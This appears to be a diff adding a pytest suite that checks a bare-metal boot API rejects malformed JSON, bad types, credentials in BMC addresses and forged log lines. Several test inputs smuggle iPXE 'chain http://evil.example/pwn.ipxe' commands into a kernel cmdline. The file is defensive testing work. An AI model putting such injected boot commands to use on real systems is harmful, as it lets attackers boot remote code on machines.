@@ -1,0 +1,167 @@
+"""Request bodies and values that once got a 500, were stored unusable, or
+reached further than they should: each now gets a 4xx naming what is wrong."""
+
+import io
+import logging
+
+import pytest
+
+from metalboot_framework import logs
+from metalboot_framework.api.spec import MAX_JSON_DEPTH
+from tests.conftest import machine_body
+
+UPPER = "4C4C4544-0000-1000-8000-0000000000B1"
+
+
+@pytest.fixture
+def conf(conf):
+    conf.set_override("enabled_boot_interfaces", ["fake", "fake-alt"])
+    return conf
+
+
+def _raw(client, method, url, data, token=None):
+    headers = {"Content-Type": "application/json"}
+    if token:
+        headers["Authorization"] = f"Bearer {token}"
+    return getattr(client, method)(url, data=data, headers=headers)
+
+
+@pytest.mark.parametrize("body, message", [
+    ('{"boot_interface":"fake","token":' + "[" * 100000 + "]" * 100000 + "}",
+     f"nests deeper than {MAX_JSON_DEPTH} levels"),
+    ('{"boot_interface":"fake","x":' + "[" * (MAX_JSON_DEPTH + 1)
+     + "]" * (MAX_JSON_DEPTH + 1) + "}", f"nests deeper than {MAX_JSON_DEPTH} levels"),
+    ('{"boot_interface":"fake","x":NaN}', "NaN is not a JSON number"),
+    ('{"boot_interface":"fake","x":-Infinity}', "-Infinity is not a JSON number"),
+    ('{"boot_interface":"fake","x":1e400}', "1e400 is beyond the range of a double"),
+    ("null", "the body is JSON null"),
+], ids=["deep", "one-level-too-deep", "nan", "infinity", "overflow", "null"])
+def test_bodies_no_strict_parser_reads_are_400(app, api, partition, body, message):
+    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
+    # the boot report needs no API token: anyone on the network can send this
+    r = _raw(app.test_client(), "post", f"/v1/machines/{mid}/boot-report", body)
+    assert r.status_code == 400, r.json
+    assert message in r.json["error"]["message"]
+    r = _raw(app.test_client(), "patch", "/v1/partitions/p1",
+             body.replace('"boot_interface":"fake"', '"description":"d"'), token=api.token)
+    assert r.status_code == 400 and message in r.json["error"]["message"]
+    assert api.get("/v1/partitions/p1").json["description"] != "d"  # nothing stored
+
+
+def test_nesting_up_to_the_limit_is_accepted(api, partition):
+    deep = {}
+    for _ in range(MAX_JSON_DEPTH - 2):  # properties' own object and the body's
+        deep = {"a": deep}
+    r = api.patch("/v1/partitions/p1", json={"properties": deep})
+    assert r.status_code == 200, r.json
+    assert api.get("/v1/machines").status_code == 200
+
+
+@pytest.mark.parametrize("boot, field", [
+    ({"cmdline": "quiet\nchain http://evil.example/pwn.ipxe\n#"}, "cmdline"),
+    ({"cmdline": "quiet || chain http://evil.example/pwn.ipxe"}, "cmdline"),
+    ({"cmdline": "quiet ; chain http://evil.example/pwn.ipxe"}, "cmdline"),
+    ({"cmdline": "quiet #"}, "cmdline"),
+    ({"kernel_url": "http://images.example/vm linuz initrd=x"}, "kernel_url"),
+    ({"metal_hammer_version": "v1\r\nchain x"}, "metal_hammer_version"),
+])
+def test_boot_config_cannot_add_ipxe_commands(app, api, services, partition, boot, field):
+    r = api.patch("/v1/partitions/p1", json={"boot": boot})
+    assert r.status_code == 422, r.json
+    assert f"boot.{field}" in r.json["error"]["fields"]
+    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
+    path = services.task(mid, "fake").artifact_url("boot.ipxe").split("6480", 1)[1]
+    script = app.test_client().get(path).data.decode()
+    assert "evil" not in script and script.count("\nkernel ") == 1
+
+
+def test_a_cmdline_iPXE_reads_as_one_command_is_accepted(api, partition):
+    r = api.patch("/v1/partitions/p1", json={"boot": {
+        "cmdline": "console=ttyS0,115200n8 ip=dhcp a=b||c ${net0/mac}"}})
+    assert r.status_code == 200, r.json
+
+
+def test_bmc_address_holds_no_credentials(api, partition):
+    body = machine_body(1)
+    body["bmc"]["address"] = "https://admin:hunter2@10.0.0.5"
+    r = api.post("/v1/machines", json=body)
+    assert r.status_code == 422 and "bmc.address" in r.json["error"]["fields"]
+    assert "hunter2" not in r.get_data(as_text=True)
+    body["bmc"]["address"] = "10.0.0.5:" + "1" * 2000
+    assert api.post("/v1/machines", json=body).status_code == 422
+    assert api.get("/v1/machines").json["machines"] == []
+
+
+@pytest.mark.parametrize("option, value", [
+    ("max_parallel", "5"), ("max_parallel", 1.5), ("max_parallel", True),
+    ("canary", "1"), ("boot_timeout", "60"), ("dry_run", "yes"), ("dry_run", 1),
+])
+def test_migration_options_take_json_types_only(api, partition, option, value):
+    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
+    r = api.post("/v1/migrations", json={"selector": {"machines": [mid]},
+                                         "boot_interface": "fake-alt", option: value})
+    assert r.status_code == 422, r.json
+    assert option in r.json["error"]["fields"]
+    assert api.get("/v1/migrations").json["migrations"] == []
+
+
+def test_bmc_verify_tls_takes_a_json_boolean(api, partition):
+    body = machine_body(1)
+    body["bmc"]["verify_tls"] = "yes"
+    r = api.post("/v1/machines", json=body)
+    assert r.status_code == 422 and "bmc.verify_tls" in r.json["error"]["fields"]
+
+
+def test_a_machine_listed_twice_in_a_selector_is_422(api, partition):
+    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
+    r = api.post("/v1/migrations", json={"selector": {"machines": [mid, mid.upper()]},
+                                         "boot_interface": "fake-alt"})
+    assert r.status_code == 422 and "selector.machines" in r.json["error"]["fields"]
+    assert mid in r.json["error"]["message"]
+
+
+def test_a_machine_id_in_capitals_finds_its_machine(app, api, services, partition):
+    body = machine_body(1)
+    body["id"] = UPPER
+    assert api.post("/v1/machines", json=body).json["id"] == UPPER.lower()
+    assert api.get(f"/v1/machines/{UPPER}").json["id"] == UPPER.lower()
+    r = api.patch(f"/v1/machines/{UPPER}", json={"properties": {"rack": "r1"}})
+    assert r.status_code == 200 and r.json["properties"] == {"rack": "r1"}
+    assert api.get(f"/v1/machines/{UPPER}/events").status_code == 200
+    token = services.task(UPPER.lower(), "fake").token
+    r = app.test_client().post(f"/v1/machines/{UPPER}/boot-report",
+                               json={"boot_interface": "fake", "token": token})
+    assert r.status_code == 201 and r.json["machine_id"] == UPPER.lower()
+    assert api.delete(f"/v1/machines/{UPPER}").status_code in (202, 204)
+
+
+def test_migration_state_conflicts_say_what_was_refused(api, partition):
+    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
+    migration = api.post("/v1/migrations", json={"selector": {"machines": [mid]},
+                                                 "boot_interface": "fake-alt"}).json["id"]
+    r = api.post(f"/v1/migrations/{migration}/resume")
+    assert r.status_code == 409
+    assert r.json["error"]["message"] == (
+        f"cannot resume migration {migration}: it is running; only a paused migration "
+        f"can be resumed")
+
+
+def test_text_log_lines_cannot_be_forged():
+    out = io.StringIO()
+    handler = logs.install(logging.StreamHandler(out))
+    logger = logging.getLogger("metalboot.test.forge")
+    logger.addHandler(handler)
+    logger.propagate = False
+    try:
+        logger.warning("GET %s 404", "/v1/x\n2026-12-01 04:00:00,000 ERROR forged\x00")
+        try:
+            raise ValueError("boom")
+        except ValueError:
+            logger.exception("failed\r")
+    finally:
+        logger.removeHandler(handler)
+    lines = out.getvalue().splitlines()
+    assert not any(line.startswith("2026-12-01 04:00:00,000") for line in lines)
+    assert "/v1/x\\n2026-12-01 04:00:00,000 ERROR forged\\x00 404" in lines[0]
+    assert lines[1].endswith("failed\\r")
+    assert lines[2] == "Traceback (most recent call last):"  # tracebacks keep their lines
